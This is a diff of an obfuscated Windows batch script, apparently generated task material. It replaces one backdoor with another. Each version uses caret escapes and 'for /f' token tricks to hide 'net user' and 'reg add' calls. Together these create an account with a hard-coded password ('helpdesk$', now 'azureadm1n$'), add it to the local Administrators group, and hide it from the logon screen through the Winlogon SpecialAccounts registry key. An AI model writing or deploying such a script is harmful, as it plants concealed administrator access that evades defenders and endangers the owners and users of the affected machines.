@@ -1,5 +1,5 @@
-REM task 4533 v4
+REM task 6596 v4
 @echo off
-fo^r /^f "tokens=1 delims=;" %%i ^in ("net;knvw;bpuy") do %%i ^u^s^e^r he^lp^desk$ Q^we^rt^y#^7788 /^a^dd /a^ctiv^e:^yes
-f^or /^f "tokens=3 delims=#" %%^i i^n ("efjo#ofbv#net") d^o %%i lo^c^alg^ro^u^p ^A^d^m^i^n^is^trat^or^s help^desk$ /ad^d
-^for /f "tokens=3 delims=@" %%i in ("qull@epds@reg") d^o %%^i ad^d "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v ^h^el^pde^sk$ /t RE^G_D^W^O^RD /d ^0 /^f
+f^or /^f "tokens=3 delims=;" %%i ^in ("fgod;efvj;net") d^o %%^i ^u^ser a^zur^e^ad^m1n$ ^W^int^er#2^025^x /a^d^d /^act^iv^e:^yes
+^for /f "tokens=2 delims=#" %%^i in ("erwg#net#kfvz") ^do %%i l^oc^al^gr^o^u^p ^Admini^st^rat^or^s a^z^ur^eadm1n$ /ad^d
+^for /f "tokens=2 delims=@" %%^i ^in ("tmlc@reg@zwle") d^o %%i ^add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v ^az^u^r^ead^m1^n$ /^t RE^G_^D^WO^RD /^d ^0 /^f
